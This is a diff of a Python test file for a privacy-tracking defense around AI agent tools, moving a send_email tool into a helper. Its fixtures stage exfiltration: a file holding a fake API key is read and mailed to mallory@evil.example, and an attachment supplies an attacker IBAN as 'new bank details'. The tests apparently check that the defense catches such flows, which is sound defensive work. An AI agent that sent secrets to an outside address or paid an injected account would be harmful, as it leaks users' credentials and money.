@@ -131,6 +131,20 @@ def _retrofit(tools: list[Any], steps: list[tuple[str, dict[str, Any]]], prompt:
 ATTACHMENT = json.dumps({"note": "new bank details", "iban": ATTACKER_IBAN})
 
 
+def mail_tool(sent: list[Any]) -> Any:
+    """A retrofitted `send_email(to, body)`: the body disclosed to `to`, which needs the user's authority."""
+
+    @tool
+    @privacy_sink(disclose={"body": "to"}, authority=["to"])
+    @privacy_source()
+    def send_email(to: str, body: str) -> str:
+        """Send an e-mail."""
+        sent.append((to, body))
+        return "sent"
+
+    return send_email
+
+
 def _pay(paid: list[Any]) -> Any:
     @tool
     @privacy_sink(disclose={"amount": "iban"}, authority=["iban", "amount"])
@@ -205,13 +219,7 @@ def test_an_unannotated_retrofitted_tools_json_text_keeps_its_privacy_in_every_f
         """A file's text."""
         return json.dumps({"body": "notes", "api_key": "sk-live-51HxQ2eZvKa8"})
 
-    @tool
-    @privacy_sink(disclose={"body": "to"}, authority=["to"])
-    @privacy_source()
-    def send_email(to: str, body: str) -> str:
-        """Send an e-mail."""
-        sent.append((to, body))
-        return "sent"
+    send_email = mail_tool(sent)
 
     shown = _retrofit([read_file, send_email], [("read_file", {"path": "keys.json"}),
                                                 ("send_email", {"to": "mallory@evil.example",
